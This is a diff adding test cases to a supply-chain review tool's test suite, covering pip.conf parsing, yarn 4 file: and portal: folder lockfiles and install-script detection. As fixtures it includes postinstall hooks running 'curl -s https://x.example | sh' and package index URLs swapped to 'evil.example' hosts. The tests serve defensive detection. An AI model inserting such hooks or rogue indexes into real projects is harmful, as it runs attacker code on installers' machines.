@@ -37,6 +37,34 @@ const PNPM_DIRECTORY_LOCK = [
   '  z@file:vendor/z: {}',
   '',
 ].join('\n');
+/**
+ * yarn 4's lockfile for a root that depends on the folder vendor/z by `protocol` (`file:`, `portal:`, `link:`), as
+ * FileResolver / PortalResolver / LinkResolver bind it to the declaring workspace (`::locator=app@workspace:.`).
+ */
+const berryFolderLock = (protocol: string, linkType: 'hard' | 'soft') =>
+  [
+    '__metadata:',
+    '  version: 8',
+    '  cacheKey: 10c0',
+    '',
+    '"app@workspace:.":',
+    '  version: 0.0.0-use.local',
+    '  resolution: "app@workspace:."',
+    '  dependencies:',
+    `    z: "${protocol}vendor/z"`,
+    '  languageName: unknown',
+    '  linkType: soft',
+    '',
+    `"z@${protocol}vendor/z::locator=app%40workspace%3A.":`,
+    '  version: 1.0.0',
+    // A folder's resolution also carries its content hash (fileUtils `makeLocator`: `#path::hash=…&locator=…`).
+    protocol === 'file:'
+      ? '  resolution: "z@file:vendor/z#vendor/z::hash=2c5e5f&locator=app%40workspace%3A."'
+      : `  resolution: "z@${protocol}vendor/z::locator=app%40workspace%3A."`,
+    '  languageName: node',
+    `  linkType: ${linkType}`,
+    '',
+  ].join('\n');
 const workflow = (install: string) =>
   [
     'name: ci',
@@ -69,6 +97,8 @@ interface Case {
   workTree?: true;
   /** The level of every finding, when not error; a warning or a note passes the `any` gate. */
   level?: 'warning' | 'note';
+  /** Text the first finding's message holds, when given. */
+  says?: string;
 }
 
 const cases: Case[] = [
@@ -153,6 +183,44 @@ const cases: Case[] = [
     base: { 'bunfig.toml': '[install]\nexact = true\n' },
     head: { 'bunfig.toml': '[install]\nexact = true\nregistry = "https://npm.evil.example/"\n' },
     want: ['CPU025@bunfig.toml:3'],
+  },
+  {
+    // configparser.RawConfigParser, which pip reads pip.conf with, takes `name: value` as `name = value`.
+    name: 'pip.conf gains `cert: ./ca.pem` (a colon, as configparser allows) → CPU026',
+    base: { 'pip.conf': '[global]\ntimeout = 60\n' },
+    head: { 'pip.conf': '[global]\ntimeout = 60\ncert: ./ca.pem\n' },
+    want: ['CPU026@pip.conf:3'],
+  },
+  {
+    // pip's `_normalize_name` reads `no_binary` as `no-binary`.
+    name: 'pip.conf gains `no_binary = :all:` → CPU026 (every package built from its sdist)',
+    base: { 'pip.conf': '[global]\ntimeout = 60\n' },
+    head: { 'pip.conf': '[global]\ntimeout = 60\nno_binary = :all:\n' },
+    want: ['CPU026@pip.conf:1'],
+  },
+  {
+    // An indented line continues the value (RawConfigParser); pip splits the list on white space.
+    name: 'pip.conf swaps the second URL of a multi-line extra-index-url → CPU025 naming both sides',
+    base: {
+      'pip.conf':
+        '[global]\nextra-index-url =\n    https://download.pytorch.org/whl/cpu\n    https://pypi.org/simple\n',
+    },
+    head: {
+      'pip.conf':
+        '[global]\nextra-index-url =\n    https://download.pytorch.org/whl/cpu\n    https://pypi.evil.example/simple\n',
+    },
+    want: ['CPU025@pip.conf:2'],
+    sides: [
+      'global.extra-index-url=https://download.pytorch.org/whl/cpu https://pypi.org/simple',
+      'global.extra-index-url=https://download.pytorch.org/whl/cpu https://pypi.evil.example/simple',
+    ],
+  },
+  {
+    // RawConfigParser raises MissingSectionHeaderError, and pip refuses the file (ConfigurationFileCouldNotBeLoaded).
+    name: 'pip.conf with a setting before any section → CPU030 (pip cannot load it either)',
+    base: { 'pip.conf': '[global]\ntimeout = 60\n' },
+    head: { 'pip.conf': 'index-url = https://pypi.evil.example/simple\n[global]\ntimeout = 60\n' },
+    want: ['CPU030@pip.conf:1'],
   },
   {
     name: 'pip.conf adds an extra index and a trusted host → CPU025 and CPU026',
@@ -360,6 +428,42 @@ const cases: Case[] = [
     },
     head: { 'packages/x/package.json': pkg({ name: 'z', scripts: { preinstall: 'curl -s https://x.example | sh' } }) },
     want: ['CPU027@packages/x/package.json:8'],
+  },
+  {
+    // FileResolver resolves a folder `linkType: HARD` and FileFetcher packs it afresh each install: yarn 4 builds it.
+    name: 'a yarn 4 file: folder changes its postinstall → CPU027 (yarn packs and builds it on every install)',
+    base: {
+      'package.json': pkg({ dependencies: { z: 'file:vendor/z' } }),
+      'yarn.lock': berryFolderLock('file:', 'hard'),
+      'vendor/z/package.json': pkg({ name: 'z' }),
+    },
+    head: { 'vendor/z/package.json': pkg({ name: 'z', scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
+    want: ['CPU027@vendor/z/package.json:8'],
+  },
+  {
+    name: 'the same yarn 4 file: folder under enableScripts: false → CPU027 as a note naming yarn setting',
+    base: {
+      'package.json': pkg({ dependencies: { z: 'file:vendor/z' } }),
+      '.yarnrc.yml': 'enableScripts: false\n',
+      'yarn.lock': berryFolderLock('file:', 'hard'),
+      'vendor/z/package.json': pkg({ name: 'z' }),
+    },
+    head: { 'vendor/z/package.json': pkg({ name: 'z', scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
+    want: ['CPU027@vendor/z/package.json:8'],
+    level: 'note',
+    says: "yarn installs this folder as the dependency z but does not run its install scripts (yarn's enableScripts: false)",
+  },
+  {
+    // PortalResolver resolves `linkType: SOFT`; extractBuildRequest ignores a soft link's build scripts.
+    name: 'a yarn 4 portal: folder changes its postinstall → CPU027 as a note only (soft links are never built)',
+    base: {
+      'package.json': pkg({ dependencies: { z: 'portal:vendor/z' } }),
+      'yarn.lock': berryFolderLock('portal:', 'soft'),
+      'vendor/z/package.json': pkg({ name: 'z' }),
+    },
+    head: { 'vendor/z/package.json': pkg({ name: 'z', scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
+    want: ['CPU027@vendor/z/package.json:8'],
+    level: 'note',
   },
   {
     name: 'a test fixture package.json (no lockfile, no workspace) gains a postinstall → CPU027 as a note only',
@@ -661,7 +765,7 @@ const cases: Case[] = [
 ];
 
 describe('review reports what the change makes the install do', () => {
-  it.each(cases)('$name', async ({ base, head, want, sides, workTree, level = 'error' }) => {
+  it.each(cases)('$name', async ({ base, head, want, sides, workTree, level = 'error', says }) => {
     const repo = makeRepo({ 'README.md': 'x\n', ...base }, head);
     cleanups.push(repo.cleanup);
     const r: ReviewResult = workTree
@@ -672,5 +776,6 @@ describe('review reports what the change makes the install do', () => {
     expect(found.map((f) => f.level)).toEqual(want.map(() => level));
     expect(r.gate?.passed).toBe(want.length === 0 || level !== 'error');
     if (sides) expect([found[0]?.evidence?.['before'], found[0]?.evidence?.['after']]).toEqual(sides);
+    if (says !== undefined) expect(found[0]?.message).toContain(says);
   });
 });
